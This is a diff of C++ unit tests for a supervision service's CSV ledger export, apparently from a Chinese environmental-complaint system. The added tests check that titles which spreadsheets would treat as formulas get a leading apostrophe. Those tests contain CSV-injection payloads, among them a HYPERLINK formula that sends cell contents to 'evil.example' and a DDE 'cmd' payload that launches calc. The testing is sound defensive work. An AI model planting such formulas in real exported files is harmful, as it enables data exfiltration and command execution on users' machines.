@@ -468,8 +468,8 @@ TEST_F(SupervisionServiceTest, LedgerCsvHasBomColumnsQuotingAndChineseText) {
   EXPECT_THAT(rows[0],
               ElementsAre("编号", "问题", "责任单位", "整改时限", "整改措施", "整改进展", "状态"));
   EXPECT_THAT(rows[1], ElementsAre("1", "料场\"东侧\"扬尘, 未覆盖", "minle-hongshui-town",
-                                   "2026-03-22 09:00", "覆盖料堆，安装喷淋", "", "ASSIGNED"));
-  EXPECT_THAT(rows[2], ElementsAre("2", "养殖场粪污直排", "", "", "", "", "FOUND"));
+                                   "2026-03-22 09:00", "覆盖料堆，安装喷淋", "", "已交办"));
+  EXPECT_THAT(rows[2], ElementsAre("2", "养殖场粪污直排", "", "", "", "", "待交办"));
   // Never complainant data, even for a supervisor.
   csv.clear();
   ASSERT_TRUE(Export("demo-supervisor", request, &csv).ok());
@@ -484,6 +484,52 @@ TEST_F(SupervisionServiceTest, LedgerCsvHasBomColumnsQuotingAndChineseText) {
   const auto found = ParseCsv(csv.substr(3));
   ASSERT_EQ(found.size(), 2u) << csv;
   EXPECT_EQ(found[1][0], plain);
+}
+
+// Issue 11, item 7: a title a spreadsheet would run as a formula is written
+// with a leading apostrophe (OWASP, CSV Injection), for each of the six
+// characters that start one; other titles are written as they are.
+TEST_F(SupervisionServiceTest, LedgerCellsThatWouldBeFormulasAreNeutralised) {
+  const std::vector<std::pair<std::string, std::string>> titles = {
+      {"=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")", "'=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")"},
+      {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+      {"-2+3", "'-2+3"},
+      {"@SUM(1,2)", "'@SUM(1,2)"},
+      {"\t=1+1 河道", "'\t=1+1 河道"},
+      {"\r=1+1 河道", "'\r=1+1 河道"},
+      {"河道 =1+1", "河道 =1+1"},
+      {"'已是文本", "'已是文本"},
+  };
+  std::set<std::string> expected;
+  for (const auto& [title, cell] : titles) {
+    Report(title);
+    expected.insert(cell);
+  }
+  v1::ExportLedgerRequest by_filter;
+  by_filter.mutable_filter()->add_statuses(v1::CASE_STATUS_FOUND);
+  std::string csv;
+  ASSERT_TRUE(Export("demo-supervisor", by_filter, &csv).ok());
+  const auto rows = ParseCsv(csv.substr(3));
+  ASSERT_EQ(rows.size(), titles.size() + 1) << csv;
+  std::set<std::string> written;
+  for (size_t i = 1; i < rows.size(); ++i) {
+    ASSERT_EQ(rows[i].size(), 7u) << csv;
+    written.insert(rows[i][1]);
+  }
+  EXPECT_EQ(written, expected);
+}
+
+TEST(CsvFieldTest, NeutralisesEachFormulaStartAndQuotesPerRfc4180) {
+  EXPECT_EQ(CsvField("=1+1"), "'=1+1");
+  EXPECT_EQ(CsvField("+1"), "'+1");
+  EXPECT_EQ(CsvField("-1"), "'-1");
+  EXPECT_EQ(CsvField("@A1"), "'@A1");
+  EXPECT_EQ(CsvField("\tx"), "'\tx");
+  EXPECT_EQ(CsvField("\rx"), "\"'\rx\"");
+  EXPECT_EQ(CsvField("=A1,\"B\""), "\"'=A1,\"\"B\"\"\"");
+  EXPECT_EQ(CsvField("a=b"), "a=b");
+  EXPECT_EQ(CsvField("50% 已完成"), "50% 已完成");
+  EXPECT_EQ(CsvField(""), "");
 }
 
 TEST_F(SupervisionServiceTest, ListsArePagedWithTokensOfTheirOwnQuery) {
